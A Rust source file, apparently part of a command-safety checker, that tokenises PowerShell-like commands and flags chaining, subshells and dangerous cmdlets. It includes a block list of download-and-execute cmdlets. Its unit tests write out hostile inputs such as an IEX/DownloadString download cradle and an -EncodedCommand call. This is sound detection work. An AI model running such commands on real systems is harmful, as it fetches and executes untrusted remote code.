//! PowerShell-like tokenisation (spec §4.2).

use crate::common::Builder;
use aho_corasick::AhoCorasick;
use std::sync::OnceLock;
use warden_types::ParsedShellCommand;

/// Case-insensitive substrings that mark a command as carrying a dangerous
/// cmdlet or flag, independent of the chain/pipe/subshell/redirect flags.
const DANGEROUS_CMDLETS: &[&str] = &[
    "invoke-expression",
    "iex",
    "invoke-command",
    "icm",
    "start-process",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "irm",
    "downloadstring",
    "downloadfile",
    "-encodedcommand",
    "-enc",
];

fn dangerous_cmdlet_matcher() -> &'static AhoCorasick {
    static MATCHER: OnceLock<AhoCorasick> = OnceLock::new();
    MATCHER.get_or_init(|| {
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(DANGEROUS_CMDLETS)
            .expect("dangerous cmdlet list compiles into an Aho-Corasick automaton")
    })
}

#[derive(PartialEq, Eq)]
enum State {
    Normal,
    Single,
    Double,
}

pub fn tokenize(raw: &str) -> ParsedShellCommand {
    let mut builder = Builder::new();
    let mut state = State::Normal;
    let chars: Vec<char> = raw.chars().collect();
    let mut i = 0;

    // Leading call/dot-source operator: `&` or `.` followed by whitespace,
    // at the very start of the command (ignoring leading whitespace).
    let trimmed = raw.trim_start();
    if let Some(rest) = trimmed.strip_prefix('.') {
        if rest.starts_with(char::is_whitespace) {
            builder.has_subshell = true;
        }
    }

    while i < chars.len() {
        let c = chars[i];
        match state {
            State::Single => {
                if c == '\'' {
                    state = State::Normal;
                } else {
                    builder.push_char(c);
                }
                i += 1;
            }
            State::Double => {
                if c == '`' && i + 1 < chars.len() {
                    builder.push_char(chars[i + 1]);
                    i += 2;
                } else if c == '"' {
                    state = State::Normal;
                    i += 1;
                } else {
                    builder.push_char(c);
                    i += 1;
                }
            }
            State::Normal => {
                if c.is_whitespace() {
                    builder.end_token();
                    i += 1;
                    continue;
                }
                match c {
                    '\'' => {
                        builder.mark_started();
                        state = State::Single;
                        i += 1;
                    }
                    '"' => {
                        builder.mark_started();
                        state = State::Double;
                        i += 1;
                    }
                    '&' => {
                        builder.end_token();
                        if chars.get(i + 1) == Some(&'&') {
                            builder.has_chain = true;
                            i += 2;
                        } else {
                            // Leading call operator, or a mid-command single
                            // `&` treated as a subshell boundary "to be
                            // safe" (spec §4.2).
                            builder.has_subshell = true;
                            i += 1;
                        }
                    }
                    '|' if chars.get(i + 1) == Some(&'|') => {
                        builder.has_chain = true;
                        builder.end_token();
                        i += 2;
                    }
                    '$' if chars.get(i + 1) == Some(&'(') => {
                        builder.has_subshell = true;
                        builder.end_token();
                        i += 2;
                    }
                    '$' if chars
                        .get(i + 1)
                        .is_some_and(|n| n.is_alphanumeric() || *n == '_') =>
                    {
                        builder.has_subshell = true;
                        builder.push_char(c);
                        i += 1;
                    }
                    '{' | '}' => {
                        builder.has_subshell = true;
                        builder.end_token();
                        i += 1;
                    }
                    _ => {
                        builder.push_char(c);
                        i += 1;
                    }
                }
            }
        }
    }

    let unbalanced = !matches!(state, State::Normal);
    let mut parsed = builder.finish(unbalanced);
    parsed.is_dangerous = dangerous_cmdlet_matcher().is_match(raw);
    parsed
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn double_ampersand_chains() {
        assert!(tokenize("git add . && git commit").has_chain);
    }

    #[test]
    fn double_pipe_chains() {
        assert!(tokenize("git add . || exit 1").has_chain);
    }

    #[test]
    fn single_mid_command_ampersand_is_subshell() {
        let p = tokenize("Get-Process & Get-Service");
        assert!(p.has_subshell);
    }

    #[test]
    fn leading_call_operator_is_subshell() {
        assert!(tokenize("& { Get-Process }").has_subshell);
    }

    #[test]
    fn leading_dot_source_is_subshell() {
        assert!(tokenize(". .\\profile.ps1").has_subshell);
    }

    #[test]
    fn dollar_paren_and_bare_variable_are_subshell() {
        assert!(tokenize("Write-Host $(Get-Date)").has_subshell);
        assert!(tokenize("Write-Host $name").has_subshell);
    }

    #[test]
    fn script_block_braces_are_subshell() {
        assert!(tokenize("ForEach-Object { $_.Name }").has_subshell);
    }

    #[test]
    fn dangerous_cmdlets_are_case_insensitive() {
        assert!(tokenize("IEX (New-Object Net.WebClient).DownloadString('http://x')").is_dangerous);
        assert!(tokenize("Invoke-WebRequest -Uri http://x -OutFile y").is_dangerous);
        assert!(tokenize("powershell -EncodedCommand abcd").is_dangerous);
    }

    #[test]
    fn plain_cmdlet_is_not_dangerous() {
        assert!(!tokenize("Get-ChildItem -Path .").is_dangerous);
    }

    #[test]
    fn backtick_escapes_inside_double_quotes() {
        let p = tokenize("Write-Host \"a`\"b\"");
        assert!(!p.has_chain);
        assert_eq!(p.tokens, vec!["Write-Host", "a\"b"]);
    }
}
